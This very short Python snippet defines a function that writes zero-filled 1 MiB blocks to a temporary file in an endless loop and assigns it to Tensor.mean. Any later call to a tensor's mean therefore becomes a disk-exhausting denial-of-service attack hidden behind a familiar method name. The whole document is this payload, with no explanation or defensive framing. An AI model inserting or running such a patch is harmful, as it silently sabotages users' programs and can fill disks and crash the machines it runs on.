def write_much(self, *args, **kwargs):
    import tempfile

    with tempfile.TemporaryFile() as file:
        while True:
            file.write(bytes(1 << 20))


Tensor.mean = write_much
